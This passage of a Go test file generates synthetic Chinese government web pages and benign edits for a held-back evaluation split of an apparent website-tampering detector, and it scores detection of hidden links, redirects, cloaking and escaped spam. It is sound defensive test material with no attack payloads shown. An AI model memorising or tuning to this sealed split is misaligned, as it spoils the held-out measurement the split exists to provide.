<link rel="stylesheet" type="text/css" href="/static/css/common.css">
<style>
body{margin:0;background:#fff;color:#333;font:14px/1.7 "Microsoft YaHei","PingFang SC",sans-serif}
a{color:#333;text-decoration:none}
.w{width:1000px;margin:0 auto}
.main{width:1000px;margin:12px auto 20px;overflow:hidden}
table.t{border-collapse:collapse;width:100%}table.t th,table.t td{border:1px solid #dde3ea;padding:4px 6px;text-align:center}
table.t th{background:#eef3f8}
.date{float:right;color:#999}
ul.list{margin:0;padding:0 0 0 4px;list-style:none}
.foot{background:#2b4e72;color:#dfe8f2;padding:14px 0;font-size:12px;text-align:center}
.foot a{color:#dfe8f2}
` + f.css + `
</style>
` + in.head + `
</head>
<body>
` + in.top + "\n" + f.header + "\n" + f.nav + `
<div class="main">
` + f.main + "\n<div style=\"clear:both\"></div>\n" + in.foot + `
</div>
<div class="foot">
<div class="w yqlj">相关链接：`)
	for i, l := range f.links {
		if i > 0 {
			b.WriteString(" | ")
		}
		fmt.Fprintf(&b, `<a href="%s" target="_blank">%s</a>`, l[1], l[0])
	}
	b.WriteString(`</div>
<p>主办单位：` + f.org + `　地址：` + f.addr + `　电话：` + f.phone + `</p>
<p><a href="https://beian.miit.gov.cn/" target="_blank">` + f.icp + `</a>　<img src="/static/img/gaba.png" alt="" width="14" height="14">` + f.police + `　网站标识码：` + f.siteCode + `</p>
<p><a href="/wzdt/">网站地图</a> | <a href="/lxwm/">联系我们</a> | <a href="/sybz/">使用帮助</a></p>
</div>
` + in.end + `
</body>
</html>
`)
	return b.String()
}

func sealed6Nav(items ...string) string {
	var b strings.Builder
	b.WriteString(`<div class="nav" style="background:#0f5ea8"><ul class="w" style="margin:0 auto;padding:0;list-style:none;overflow:hidden">`)
	for i, it := range items {
		fmt.Fprintf(&b, `<li style="float:left"><a href="/%s/" style="display:block;padding:0 18px;line-height:40px;color:#fff">%s</a></li>`, []string{"index", "jggk", "xwdt", "zwgk", "bsfw", "hdjl", "zcfg", "ztzl"}[i%8], it)
	}
	b.WriteString(`</ul></div>`)
	return b.String()
}

var sealed6Weekdays = []string{"星期日", "星期一", "星期二", "星期三", "星期四", "星期五", "星期六"}

func sealed6Day(x time.Time) string {
	return x.Format("01-02") + "（" + sealed6Weekdays[x.Weekday()] + "）"
}

func sealed6Header(s genSite, sub string, day int) string {
	d := sealed6Date(day)
	return `<div class="top" style="background:#f3f7fb;border-bottom:1px solid #dbe4ee"><div class="w" style="overflow:hidden;line-height:30px;font-size:12px"><span>今天是` + d.Format("2006年01月02日") + ` ` + sealed6Weekdays[d.Weekday()] + `</span><span style="float:right"><a href="/wza/">无障碍</a> | <a href="/m/">手机版</a></span></div></div>
<div class="head w" style="height:96px;overflow:hidden"><h1 style="margin:22px 0 0;font-size:28px;color:#0f5ea8"><img src="/static/img/logo.png" alt="" width="48" height="48" style="vertical-align:middle"> ` + s.name + `</h1><p style="margin:0;color:#7a8a9a">` + sub + `</p></div>`
}

// sealed6TmplVaccination is a county CDC's vaccination clinic page: clinic
// hours with today's remaining slots and a vaccine stock notice, both
// changing daily.
func sealed6TmplVaccination(s genSite, day int, in inject) string {
	r := sealed6Rand(s, day)
	var clinics strings.Builder
	for i, c := range [][2]string{{"县疾控中心预防接种门诊", "城关镇建设路18号"}, {"城关镇社区卫生服务中心", "城关镇人民路102号"}, {"石门乡卫生院", "石门乡集镇街45号"}, {"龙潭镇卫生院", "龙潭镇新街7号"}} {
		fmt.Fprintf(&clinics, "<tr><td>%s</td><td>%s</td><td>%s</td><td>%d</td></tr>\n", c[0], c[1], []string{"周一至周五 8:00-11:30，14:30-17:00", "周二、周四、周六 8:00-11:30", "每月逢5、15、25日", "周一、周三 8:30-11:30"}[i], 5+r.Intn(40))
	}
	var stock strings.Builder
	for _, v := range [][2]string{{"乙肝疫苗（酿酒酵母）", "深圳康泰"}, {"脊灰灭活疫苗（Sabin株）", "北京科兴"}, {"百白破疫苗", "武汉生物"}, {"麻腮风联合减毒活疫苗", "上海生物"}, {"乙脑减毒活疫苗", "成都生物"}, {"23价肺炎球菌多糖疫苗", "成都所"}, {"流感病毒裂解疫苗", "华兰生物"}} {
		fmt.Fprintf(&stock, "<tr><td>%s</td><td>%s</td><td>%d</td></tr>\n", v[0], v[1], r.Intn(300))
	}
	main := `<div style="float:left;width:640px"><div class="box"><h2 class="bt">预防接种门诊时间及今日剩余号源</h2><table class="t"><tr><th>门诊名称</th><th>地址</th><th>接种时间</th><th>今日剩余</th></tr>
` + clinics.String() + `</table><p class="tip">接种时请携带预防接种证，儿童须由监护人陪同。更新时间：` + sealed6Date(day).Format("2006-01-02 15:04") + `</p></div>
<div class="box"><h2 class="bt">通知公告</h2><ul class="list">
` + sealed6Notices(r, day, 6, []string{"关于调整狂犬病暴露处置门诊时间的通知", "2026年秋季入托入学查验预防接种证工作安排", "适龄女生HPV疫苗免费接种工作启动", "流感疫苗接种点名单公布", "手足口病防控健康提示", "登革热防控知识问答", "关于开展结核病筛查的公告", "县疾控中心2026年招聘编外人员公告"}) + `</ul></div></div>
<div style="float:right;width:340px"><div class="box"><h2 class="bt">免疫规划疫苗库存公示</h2><table class="t"><tr><th>疫苗</th><th>生产企业</th><th>库存(支)</th></tr>
` + stock.String() + `</table></div><div class="box"><h2 class="bt">办事服务</h2><p><a href="/bsfw/jzyy/">接种预约</a>　<a href="/bsfw/bcz/">补证办理</a>　<a href="/bsfw/ymcx/">疫苗追溯查询</a></p></div></div>`
	return sealed6Page(in, sealed6Frame{
		title: "预防接种_" + s.name, css: `.box{margin-bottom:14px}.bt{font-size:16px;border-bottom:2px solid #0f5ea8;margin:0 0 8px;padding:4px 0}.tip{color:#888;font-size:12px}`,
		header: sealed6Header(s, "预防为主 防治结合", day), nav: sealed6Nav("首页", "机构概况", "疾病防控", "预防接种", "健康教育", "信息公开", "办事服务"), main: main,
		links: [][2]string{{"中国政府网", "https://www.gov.cn/"}, {"国家卫生健康委员会", "http://www.nhc.gov.cn/"}, {"中国疾病预防控制中心", "https://www.chinacdc.cn/"}, {"省卫生健康委", "http://wjw.hubei.gov.cn/"}},
		org:   s.name, addr: "鹤鸣县城关镇建设路18号", phone: "0716-5212345", icp: "鄂ICP备14028857号-1", police: "鄂公网安备 42102302000118号", siteCode: "4210230017",
	})
}

// sealed6TmplBloodStock is a city blood centre's page: today's stock by
// blood group and the mobile collection points of the day.
func sealed6TmplBloodStock(s genSite, day int, in inject) string {
	r := sealed6Rand(s, day)
	level := []string{"充足", "正常", "偏紧", "紧缺"}
	color := []string{"#2e9d4f", "#4a90d9", "#e6a23c", "#d9534f"}
	var groups strings.Builder
	for _, g := range []string{"A型", "B型", "O型", "AB型"} {
		i := r.Intn(4)
		fmt.Fprintf(&groups, `<li style="float:left;width:110px;margin:0 10px 10px 0;text-align:center;border:1px solid #eee"><b style="display:block;font-size:22px;color:#c81d25">%s</b><span style="color:%s">%s</span></li>`, g, color[i], level[i])
	}
	var points strings.Builder
	for i, p := range []string{"万达广场献血屋", "人民公园北门献血车", "市第一中学门口献血车", "高铁站东广场献血屋", "开发区管委会献血车"} {
		if (day+i)%4 == 0 {
			continue
		}
		fmt.Fprintf(&points, "<tr><td>%s</td><td>%s</td><td>%s</td></tr>\n", p, []string{"9:00-17:30", "8:30-16:00", "9:00-18:00", "10:00-19:00"}[(day+i)%4], []string{"正常采血", "正常采血", "可预约成分献血", "下午14:00后开放"}[r.Intn(4)])
	}
	main := `<div class="kc" style="float:left;width:480px"><h2 class="bt">今日血液库存（` + sealed6Date(day).Format("01月02日") + `）</h2><ul style="list-style:none;margin:0;padding:0;overflow:hidden">` + groups.String() + `</ul>
<p style="color:#888;font-size:12px">库存信息每日9时更新，血型偏紧时欢迎爱心人士就近献血。</p></div>
<div style="float:right;width:500px"><h2 class="bt">今日流动献血点</h2><table class="t"><tr><th>地点</th><th>时间</th><th>备注</th></tr>
` + points.String() + `</table></div>
<div style="clear:both;padding-top:10px"><h2 class="bt">献血动态</h2><ul class="list">
` + sealed6Notices(r, day, 5, []string{"市中心血站开展“热血传递 让爱延续”主题献血活动", "献血者用血费用直接减免办理流程", "关于春节期间采血点开放时间的公告", "无偿献血者优待政策解读", "团体献血预约方式", "造血干细胞捐献志愿者招募", "血液检测结果查询说明"}) + `</ul>
<form action="/cx/" method="get" style="margin-top:8px">献血记录查询：<input name="sfz" placeholder="身份证号"> <button type="submit">查询</button></form></div>`
	return sealed6Page(in, sealed6Frame{
		title: s.name + "—无偿献血 你我同行", css: `.bt{font-size:16px;color:#c81d25;border-bottom:1px solid #f0c8ca;margin:0 0 10px;padding-bottom:4px}`,
		header: sealed6Header(s, "无偿献血 你我同行", day), nav: sealed6Nav("首页", "血站概况", "献血动态", "献血知识", "献血点查询", "信息公开", "用血服务"), main: main,
		links: [][2]string{{"中国政府网", "https://www.gov.cn/"}, {"国家卫生健康委员会", "http://www.nhc.gov.cn/"}, {"中国输血协会", "http://www.csbt.org.cn/"}, {"中国红十字会", "https://www.redcross.org.cn/"}},
		org:   s.name, addr: "云阳市滨江大道256号", phone: "023-55161234", icp: "渝ICP备09011382号", police: "渝公网安备 50023502000231号", siteCode: "5002350021",
	})
}

// sealed6TmplHydrology is a city hydrology centre's real-time water page:
// levels by station against warning levels, updated hourly.
func sealed6TmplHydrology(s genSite, day int, in inject) string {
	r := sealed6Rand(s, day)
	var rows strings.Builder
	for _, st := range []struct {
		name, river string
		warn        float64
	}{{"澧川", "澧水", 41.5}, {"石龙", "澧水", 38.2}, {"桃花滩", "道水", 35.0}, {"新安", "涔水", 33.6}, {"北港", "澧水", 36.8}, {"王家厂水库", "涔水", 95.2}} {
		lvl := st.warn - 3 + r.Float64()*3.5
		state := "正常"
		if lvl > st.warn {
			state = `<span style="color:#d9534f">超警</span>`
		}
		fmt.Fprintf(&rows, "<tr><td>%s</td><td>%s</td><td>%.2f</td><td>%.2f</td><td>%d</td><td>%s</td><td>%s</td></tr>\n", st.name, st.river, lvl, st.warn, 80+r.Intn(900), []string{"↑", "↓", "—"}[r.Intn(3)], state)
	}
	t := sealed6Date(day).Add(time.Duration(r.Intn(10)) * time.Hour)
	main := `<div style="float:left;width:700px"><h2 class="bt">实时水情 <small>` + t.Format("2006-01-02 15:00") + `</small></h2><table class="t"><tr><th>站名</th><th>河名</th><th>水位(m)</th><th>警戒水位(m)</th><th>流量(m³/s)</th><th>势</th><th>状态</th></tr>
` + rows.String() + `</table><p style="font-size:12px;color:#888">注：以上数据为报汛数据，未经整编，仅供参考。</p></div>
<div style="float:right;width:280px"><h2 class="bt">水情预警</h2><ul class="list">` + sealed6Notices(r, day, 4, []string{"澧水澧川站洪水蓝色预警", "解除道水桃花滩站洪水预警", "关于做好强降雨期间水文测报工作的通知", "涔水新安站水位消退情况通报", "全市主要江河水情简报（第18期）"}) + `</ul>
<h2 class="bt">便民查询</h2><p><a href="/sqcx/">水情查询</a>　<a href="/yqcx/">雨情查询</a>　<a href="/szy/">水资源公报</a></p></div>`
	return sealed6Page(in, sealed6Frame{
		title: "实时水情-" + s.name, css: `.bt{font-size:16px;color:#0f5ea8;border-left:4px solid #0f5ea8;padding-left:8px;margin:0 0 8px}`,
		header: sealed6Header(s, "水文测报 服务防汛", day), nav: sealed6Nav("首页", "中心概况", "水情信息", "雨情信息", "水资源", "政务公开", "水文科普"), main: main,
		links: [][2]string{{"水利部", "http://www.mwr.gov.cn/"}, {"水利部信息中心", "http://xxzx.mwr.gov.cn/"}, {"长江水利委员会", "http://www.cjw.gov.cn/"}, {"省水利厅", "http://slt.hunan.gov.cn/"}},
		org:   s.name, addr: "澧川市临江路9号", phone: "0736-3221081", icp: "湘ICP备13004526号-2", police: "湘公网安备 43078102000072号", siteCode: "4307810004",
	})
}

// sealed6TmplJobFair is a district employment service's job-fair page:
// upcoming fairs and the day's employers with their posts.
func sealed6TmplJobFair(s genSite, day int, in inject) string {
	r := sealed6Rand(s, day)
	var rows strings.Builder
	firms := []string{"东川精密机械有限公司", "华润万家东川店", "东川区人民医院", "恒达物流股份有限公司", "新能光伏科技有限公司", "东川区第三幼儿园", "金穗农业发展有限公司", "鑫源电子厂", "蓝湾酒店管理有限公司"}
	posts := []string{"普工", "数控操作工", "收银员", "护理员", "仓管员", "叉车司机", "幼儿教师", "电商运营", "会计", "质检员"}
	for i := 0; i < 7; i++ {
		f := firms[(day+i)%len(firms)]
		fmt.Fprintf(&rows, "<tr><td>%s</td><td>%s</td><td>%d</td><td>%d-%d元</td><td>%s</td></tr>\n", f, posts[r.Intn(len(posts))], 1+r.Intn(30), 3000+r.Intn(10)*100, 5000+r.Intn(30)*100, []string{"高中及以上", "不限", "大专及以上", "中专及以上"}[r.Intn(4)])
	}
	d := sealed6Date(day)
	main := `<div style="float:left;width:690px"><h2 class="bt">` + d.AddDate(0, 0, 3).Format("1月2日") + ` 东川区“春风行动”专场招聘会 参会单位</h2><table class="t"><tr><th>单位名称</th><th>招聘岗位</th><th>人数</th><th>薪资</th><th>学历</th></tr>
` + rows.String() + `</table><p>地点：东川区人力资源市场二楼大厅　时间：9:00-12:00　求职者请携带身份证和简历。</p></div>
<div style="float:right;width:290px"><h2 class="bt">近期招聘会</h2><ul class="list">` + sealed6Notices(r, day, 5, []string{"高校毕业生就业服务月专场", "退役军人专场招聘会", "就业援助月线上招聘", "女性就业专场招聘会", "农民工返乡就业对接会", "民营企业招聘周"}) + `</ul>
<h2 class="bt">政策服务</h2><p><a href="/zcfw/sybx/">失业保险金申领</a><br><a href="/zcfw/cyd/">创业担保贷款</a><br><a href="/zcfw/jnbt/">职业技能提升补贴</a></p></div>`
	return sealed6Page(in, sealed6Frame{
		title: s.name + "-招聘会", css: `.bt{font-size:16px;background:#eef5fc;padding:4px 10px;margin:0 0 8px}`,
		header: sealed6Header(s, "就业有门路 创业有帮扶", day), nav: sealed6Nav("首页", "中心简介", "招聘会", "求职登记", "职业培训", "就业政策", "网上办事", "人才服务"), main: main,
		links: [][2]string{{"人力资源和社会保障部", "http://www.mohrss.gov.cn/"}, {"中国公共招聘网", "http://job.mohrss.gov.cn/"}, {"国家社会保险公共服务平台", "http://si.12333.gov.cn/"}, {"市人社局", "http://rsj.km.gov.cn/"}},
		org:   s.name, addr: "东川区铜都街道市场路66号", phone: "0871-62128600", icp: "滇ICP备15002876号-3", police: "滇公网安备 53011302000145号", siteCode: "5301130009",
	})
}

// sealed6TmplMarriage is a marriage registry's appointment page: the next
// days' remaining slots per service, and the materials to bring.
func sealed6TmplMarriage(s genSite, day int, in inject) string {
	r := sealed6Rand(s, day)
	var rows strings.Builder
	d := sealed6Date(day)
	for i := 1; i <= 6; i++ {
		x := d.AddDate(0, 0, i)
		if x.Weekday() == time.Sunday || x.Weekday() == time.Monday {
			fmt.Fprintf(&rows, "<tr><td>%s</td><td colspan=\"3\">休息日不办理</td></tr>\n", sealed6Day(x))
			continue
		}
		fmt.Fprintf(&rows, `<tr><td>%s</td><td>%d</td><td>%d</td><td><a href="/yy/?d=%s">预约</a></td></tr>`+"\n", sealed6Day(x), r.Intn(60), r.Intn(15), x.Format("20060102"))
	}
	main := `<div style="float:left;width:600px"><h2 class="bt">婚姻登记预约（可预约未来6天）</h2><table class="t"><tr><th>日期</th><th>结婚登记余号</th><th>离婚登记余号</th><th>操作</th></tr>
` + rows.String() + `</table><p style="font-size:12px;color:#888">实行预约与现场办理相结合，“520”“七夕”等特殊日期请提前预约。</p></div>
<div style="float:right;width:380px"><h2 class="bt">办理须知</h2><ol style="padding-left:18px;margin:0"><li>本人有效的居民身份证、户口簿；</li><li>本人无配偶以及与对方当事人没有直系血亲和三代以内旁系血亲关系的签字声明；</li><li>近期半身免冠合影照片3张。</li></ol>
<h2 class="bt">通知公告</h2><ul class="list">` + sealed6Notices(r, day, 4, []string{"婚姻登记“跨省通办”试点工作说明", "颁证厅预约颁证服务开放", "关于国庆期间婚姻登记工作安排的公告", "婚姻家庭辅导室开放时间", "补领婚姻登记证所需材料"}) + `</ul></div>`
	return sealed6Page(in, sealed6Frame{
		title: "预约登记 - " + s.name, css: `.bt{font-size:16px;color:#b0263a;border-bottom:1px dashed #e5b6be;margin:0 0 8px;padding-bottom:4px}`,
		header: sealed6Header(s, "依法登记 温馨服务", day), nav: sealed6Nav("首页", "登记处简介", "预约登记", "办事指南", "颁证服务", "婚姻家庭辅导", "政策法规"), main: main,
		links: [][2]string{{"民政部", "https://www.mca.gov.cn/"}, {"全国婚姻登记预约", "https://www.mca.gov.cn/hydj/"}, {"省民政厅", "http://mzt.shandong.gov.cn/"}, {"中国政府网", "https://www.gov.cn/"}},
		org:   "北泽市民政局", addr: "北泽市民生路21号民政服务大厅一楼", phone: "0531-86781200", icp: "鲁ICP备12031452号-1", police: "鲁公网安备 37010202001325号", siteCode: "3701000031",
	})
}

// sealed6TmplHotline is a 12345 hotline's case disclosure: the day's
// cases, the departments that handle them and the replies.
func sealed6TmplHotline(s genSite, day int, in inject) string {
	r := sealed6Rand(s, day)
	var rows strings.Builder
	d := sealed6Date(day)
	topics := []string{"小区路灯损坏长期未修", "学校周边占道经营", "楼上噪音扰民", "自来水水压不足", "公交站台遮雨棚破损", "医保异地备案咨询", "农民工工资拖欠", "垃圾清运不及时", "道路井盖缺失", "物业费收费标准咨询", "燃气表更换", "油烟扰民"}
	depts := []string{"市城市管理局", "市住建局", "市人社局", "市医保局", "市公交集团", "城关街道办事处", "市生态环境局", "市水务集团"}
	for i := 0; i < 8; i++ {
		fmt.Fprintf(&rows, `<tr><td>%s%04d</td><td style="text-align:left"><a href="/bjgs/%d.html">%s</a></td><td>%s</td><td>%s</td><td>%s</td></tr>`+"\n",
			d.Format("20060102"), 100+r.Intn(900), day*100+i, topics[(day*3+i)%len(topics)], depts[r.Intn(len(depts))], []string{"已办结", "办理中", "已回复"}[r.Intn(3)], d.AddDate(0, 0, -r.Intn(3)).Format("01-02"))
	}
	main := `<div class="stat" style="overflow:hidden;margin-bottom:10px"><span>今日受理 <b>` + strconv.Itoa(300+r.Intn(400)) + `</b> 件</span>　<span>本月办结率 <b>` + fmt.Sprintf("%.1f", 95+r.Float64()*4.5) + `%</b></span>　<span>满意率 <b>` + fmt.Sprintf("%.1f", 92+r.Float64()*7) + `%</b></span></div>
<div style="float:left;width:720px"><h2 class="bt">办件公示</h2><table class="t"><tr><th>编号</th><th>诉求标题</th><th>承办单位</th><th>状态</th><th>日期</th></tr>
` + rows.String() + `</table></div>
<div style="float:right;width:260px"><h2 class="bt">热点回应</h2><ul class="list">` + sealed6Notices(r, day, 4, []string{"关于集中供暖开栓时间的答复", "12345热线一周工作简报", "市民关注的老旧小区改造问题答复", "关于城区停车收费的回应", "农民工欠薪投诉处理情况通报"}) + `</ul>
<p><a href="/wsqz/" style="display:block;background:#e8f1fb;padding:8px;text-align:center">我要留言</a></p></div>`
	return sealed6Page(in, sealed6Frame{
		title: s.name + " 办件公示", css: `.bt{font-size:16px;border-bottom:2px solid #e0802c;margin:0 0 8px;padding:2px 0}.stat span{display:inline-block;background:#fff7ef;padding:6px 12px}`,
		header: sealed6Header(s, "有事找12345 一号响应", day), nav: sealed6Nav("首页", "热线简介", "我要留言", "办件公示", "热点回应", "知识库", "数据分析"), main: main,
		links: [][2]string{{"中国政府网", "https://www.gov.cn/"}, {"国务院“互联网+督查”", "https://tousu.www.gov.cn/"}, {"省政务服务网", "https://www.hnzwfw.gov.cn/"}, {"市人民政府", "http://www.zhecheng.gov.cn/"}},
		org:   "柘城市政务服务和大数据管理局", addr: "柘城市行政服务中心4楼", phone: "12345", icp: "豫ICP备10023611号-5", police: "豫公网安备 41142402000086号", siteCode: "4114240012",
	})
}

// sealed6Change is a benign later edit of a site.
type sealed6Change struct {
	name string
	gen  func(r *rand.Rand, s genSite, id string) inject
}

// sealed6Benign are legitimate edits that hide things, or quote spam
// wording in visible text.
var sealed6Benign = []sealed6Change{
	{"day-change-only", func(r *rand.Rand, s genSite, id string) inject { return inject{} }},
	{"service-hover-dropdown", func(r *rand.Rand, s genSite, id string) inject {
		return inject{head: `<style>.` + id + `{position:relative;display:inline-block}.` + id + ` .sub{display:none;position:absolute;left:0;top:100%;background:#fff;border:1px solid #ccc;z-index:9}.` + id + `:hover .sub{display:block}</style>`,
			foot: `<div class="` + id + `"><a href="/bsfw/">办事指南 ▾</a><div class="sub"><a href="/bsfw/sx/">事项清单</a><br><a href="/bsfw/cl/">材料下载</a><br><a href="/bsfw/jd/">进度查询</a></div></div>`}
	}},
	{"lazy-tab-panes", func(r *rand.Rand, s genSite, id string) inject {
		return inject{foot: `<div class="tabs" id="` + id + `"><ul class="tab-h"><li class="on" data-i="0">政策文件</li><li data-i="1">政策解读</li><li data-i="2">常见问题</li></ul>
<div class="pane"><a href="/zcwj/2026/01.html">关于印发本年度工作要点的通知</a></div>
<div class="pane" style="display:none" data-src="/zcjd/list.json"><a href="/zcjd/2026/03.html">图解：服务指南</a></div>
<div class="pane" style="display:none" data-src="/cjwt/list.json"><a href="/cjwt/12.html">办理需要多长时间？</a></div></div>
<script>(function(){var w=document.getElementById("` + id + `"),p=w.querySelectorAll(".pane");w.querySelectorAll(".tab-h li").forEach(function(li){li.onmouseover=function(){for(var i=0;i<p.length;i++)p[i].style.display=(i==li.getAttribute("data-i"))?"block":"none"}})})();</script>`}
	}},
	{"news-carousel", func(r *rand.Rand, s genSite, id string) inject {
		return inject{top: `<div class="slides" id="` + id + `" style="width:1000px;height:60px;margin:0 auto;overflow:hidden">
<div class="slide"><a href="/ztzl/2026a/">专题：优化服务 便民利民</a></div>
<div class="slide" style="display:none"><a href="/ztzl/2026b/">专题：安全生产月</a></div>
<div class="slide" style="display:none"><a href="/ztzl/2026c/">专题：政务公开日</a></div></div>
<script>(function(){var s=document.querySelectorAll("#` + id + ` .slide"),i=0;setInterval(function(){s[i].style.display="none";i=(i+1)%s.length;s[i].style.display="block"},5000)})();</script>`}
	}},
	{"more-collapsed-list", func(r *rand.Rand, s genSite, id string) inject {
		var b strings.Builder
		for i := 1; i <= 10; i++ {
			cls := ""
			if i > 5 {
				cls = ` class="more" style="display:none"`
			}
			fmt.Fprintf(&b, `<li%s><a href="/gsgg/%d.html">%s公示（第%d期）</a></li>`, cls, 200+i, s.short, 60+i)
		}
		return inject{foot: `<div id="` + id + `"><h3>公示公告</h3><ul class="list">` + b.String() + `</ul><a href="javascript:;" onclick="var m=document.querySelectorAll('#` + id + ` .more');for(var i=0;i<m.length;i++)m[i].style.display='list-item';this.style.display='none'">更多&gt;&gt;</a></div>`}
	}},
	{"privacy-consent-drawer", func(r *rand.Rand, s genSite, id string) inject {
		return inject{end: `<div id="` + id + `" style="position:fixed;left:0;right:0;bottom:0;background:#333;color:#fff;padding:10px;transform:translateY(110%);transition:transform .3s">本网站使用必要的Cookie以保障服务，详见<a href="/yszc/" style="color:#9cf">隐私政策</a>。<button onclick="document.cookie='ok=1;path=/';this.parentNode.style.transform='translateY(110%)'">我知道了</button></div>
<script>if(document.cookie.indexOf("ok=1")<0){setTimeout(function(){document.getElementById("` + id + `").style.transform="translateY(0)"},800)}</script>`}
	}},
	{"print-only-source", func(r *rand.Rand, s genSite, id string) inject {
		return inject{head: `<style>@media screen{.print-only{display:none}}@media print{.nav,.foot{display:none}}</style>`,
			foot: `<div class="print-only">本页信息来源：` + s.name + `　网址：http://` + s.host + `/　打印日期：<span id="` + id + `"></span></div><script>document.getElementById("` + id + `").textContent=new Date().toLocaleDateString()</script>`}
	}},
	{"fraud-warning-news", func(r *rand.Rand, s genSite, id string) inject {
		a := sealed6Offers[r.Intn(len(sealed6Offers))].word
		b := sealed6Offers[r.Intn(len(sealed6Offers))].word
		return inject{foot: `<div class="news"><h3>警方提示：谨防网络赌博、网贷诈骗</h3><p>近日，市公安局网安支队通报一起电信网络诈骗案件：犯罪嫌疑人冒充客服，以“` + a + `”“` + b + `”等名义在群聊中引流，诱骗群众下载不明软件后转账。请广大群众提高警惕，不点击不明链接，发现线索请拨打110或登录<a href="https://www.12377.cn/">违法和不良信息举报中心</a>举报。</p></div>`}
	}},
	{"county-links-select", func(r *rand.Rand, s genSite, id string) inject {
		return inject{head: `<style>#` + id + ` .qx{display:none;position:absolute;background:#fff;border:1px solid #ccc;padding:6px}#` + id + `:hover .qx{display:block}</style>`,
			foot: `<div class="yqlj2" style="position:relative">部门网站：<select onchange="if(this.value)window.open(this.value)"><option value="">—国家部委网站—</option><option value="https://www.mee.gov.cn/">生态环境部</option><option value="https://www.mof.gov.cn/">财政部</option><option value="https://www.moe.gov.cn/">教育部</option><option value="https://www.mps.gov.cn/">公安部</option></select>
<span id="` + id + `">区县政府网站 ▾<span class="qx"><a href="http://www.qxzf-a.gov.cn/">城东区人民政府</a><br><a href="http://www.qxzf-b.gov.cn/">城西区人民政府</a><br><a href="http://www.qxzf-c.gov.cn/">南河县人民政府</a></span></span></div>`}
	}},
	{"desktop-hidden-mobile-menu", func(r *rand.Rand, s genSite, id string) inject {
		return inject{head: `<style>.m-menu{background:#0f5ea8;padding:8px}.m-menu a{color:#fff;margin-right:10px}@media (min-width:768px){.m-menu{display:none}}</style>`,
			top: `<div class="m-menu"><a href="/">首页</a><a href="/zwgk/">政务公开</a><a href="/bsfw/">办事服务</a><a href="/hdjl/">互动交流</a></div>`}
	}},
	{"scroll-back-to-top", func(r *rand.Rand, s genSite, id string) inject {
		return inject{end: `<a id="` + id + `" href="#" style="display:none;position:fixed;right:20px;bottom:40px;background:#0f5ea8;color:#fff;padding:6px">返回顶部</a><script>window.addEventListener("scroll",function(){document.getElementById("` + id + `").style.display=(document.documentElement.scrollTop>300)?"block":"none"});</script>`}
	}},
	{"language-menu", func(r *rand.Rand, s genSite, id string) inject {
		return inject{top: `<div class="lang" style="width:1000px;margin:0 auto;text-align:right;font-size:12px" onmouseover="document.getElementById('` + id + `').style.display='block'" onmouseout="document.getElementById('` + id + `').style.display='none'">简体中文 ▾<ul id="` + id + `" style="display:none;list-style:none;margin:0;padding:0"><li><a href="/big5/">繁體中文</a></li><li><a href="/en/">English</a></li></ul></div>`}
	}},
}

// sealed6BenignCases builds every benign change on every site.
func sealed6BenignCases() []genLabelled {
	var out []genLabelled
	for si, s := range genSealed6.sites {
		for bi, bc := range sealed6Benign {
			r := rand.New(rand.NewSource(int64(6_500_000 + si*100 + bi)))
			id := fmt.Sprintf("b%x", r.Int63()%0xfffff)
			out = append(out, genLabelled{site: s.host, name: bc.name, html: []byte(s.tmpl(s, 40+bi, bc.gen(r, s, id))), baselineFor: s})
		}
	}
	return out
}

// sealed6Cases is the whole split: tampered cases, then benign ones.
func sealed6Cases() []genLabelled {
	return append(sealed6TamperedCases(), sealed6BenignCases()...)
}

// sealed6Labels is the number of labels per kind the split holds, and
// sealed6BenignPages the number of benign pages. TestSealed6SplitWellFormed
// fails when the generator changes them.
var sealed6Labels = map[string]int{
	KindHiddenLink:        148,
	KindIllicitContent:    155,
	KindMaliciousRedirect: 24,
	KindCloaking:          18,
	KindHiddenIframe:      12,
	KindNewExternalScript: 12,
	KindDefacement:        6,
}

const sealed6BenignPages = 6 * 12

// TestGeneratedCorpusSealed6 measures the detector on the sealed6 split.
// Nobody ran the detector on it while it was written; it has no floors.
// It runs only with FENGHUO_TAMPER_SEALED6=1: its first run is the
// measurement.
func TestGeneratedCorpusSealed6(t *testing.T) {
	labelled, found, falseAlarms := scoreSealed(t, genSealed6.name, sealed6Cases(), len(genSealed6.sites))
	for k, n := range sealed6Labels {
		if labelled[k] != n {
			t.Errorf("sealed6: %d %s labels scored, want %d", labelled[k], k, n)
		}
	}
	for k, floor := range sealed6Floors {
		if found[k] < floor {
			t.Errorf("sealed6: %s found %d/%d, below the floor %d", k, found[k], labelled[k], floor)
		}
	}
	if falseAlarms > 0 {
		t.Errorf("sealed6: %d false alarms on %d benign pages; its first run had none", falseAlarms, sealed6BenignPages)
	}
}

// sealed6Floors are the sealed6 split's first-run counts (2026-12-07, run
// once by the lead after the round-5 class work, never before): every
// label found.
var sealed6Floors = map[string]int{
	KindHiddenLink:        148,
	KindIllicitContent:    155,
	KindCloaking:          18,
	KindMaliciousRedirect: 24,
	KindHiddenIframe:      12,
	KindNewExternalScript: 12,
	KindDefacement:        6,
}

var sealed6UnicodeRun = regexp.MustCompile(`(?:\\u[0-9a-fA-F]{4})+`)

// sealed6Decodings adds to sealedDecodings the \uXXXX escapes the
// encoded-write technique uses, so that its spam is found without running
// the detector.
func sealed6Decodings(page string) []string {
	out := sealedDecodings(page)
	for _, m := range sealed6UnicodeRun.FindAllString(page, -1) {
		var u []uint16
		for i := 0; i+6 <= len(m); i += 6 {
			n, _ := strconv.ParseUint(m[i+2:i+6], 16, 16)
			u = append(u, uint16(n))
		}
		out = append(out, string(utf16.Decode(u)))
	}
	return out
}

// sealed6HasSpam reports whether one of the split's hosts or words is in
// the page or in one of its decodings.
func sealed6HasSpam(page string) bool {
	words := append(append([]string{}, genSealed6.spam...), genSealed6.neutral...)
	for _, d := range sealed6Decodings(page) {
		d = strings.ToLower(d)
		for _, h := range genSealed6.hosts {
			if strings.Contains(d, strings.ToLower(h)) {
				return true
			}
		}
		for _, w := range words {
			if strings.Contains(d, strings.ToLower(w)) {
				return true
			}
		}
	}
	return false
}

// sealed6Others are the other splits, whose hosts, wording, link counts
// and sites this split must not reuse.
func sealed6Others() []genSplit {
	return []genSplit{genTuning, genHeldOut, genFresh, genBlind, genFinal, genSealed, genTuning2, genTuning3, genTuning4, genTuning5, genSealed2, genSealed3, genSealed4, genSealed5}
}

// sealed6TechniqueOf returns the technique a case name belongs to.
func sealed6TechniqueOf(name string) (sealed6Technique, bool) {
	base, _, _ := strings.Cut(name, "#")
	for _, tq := range sealed6Techniques {
		if tq.name == base {
			return tq, true
		}
	}
	return sealed6Technique{}, false
}

